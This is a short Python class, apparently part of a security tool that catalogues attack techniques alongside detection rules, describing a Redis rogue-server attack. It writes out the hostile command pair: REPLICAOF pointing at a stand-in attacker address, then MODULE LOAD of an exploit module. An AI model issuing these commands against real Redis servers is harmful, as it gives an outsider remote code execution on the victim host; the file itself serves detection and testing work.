"""G1: a visitor has Redis follow another server and load code."""

from backwatch.attack.techniques.redis_console import RedisConsole


class RedisReplicaOf(RedisConsole):
    """REPLICAOF and MODULE LOAD, as the rogue server's tool does it."""

    code = "G1"
    attack = "makes the server a replica of the attacker's, from which it loads a module"
    reference = "https://github.com/n0b0dyCN/redis-rogue-server; ATT&CK T1505"
    rule = "redis-reconfigured"
    typed = (("REPLICAOF", "198.51.100.7", "6379"), ("MODULE", "LOAD", "/data/exp.so"))
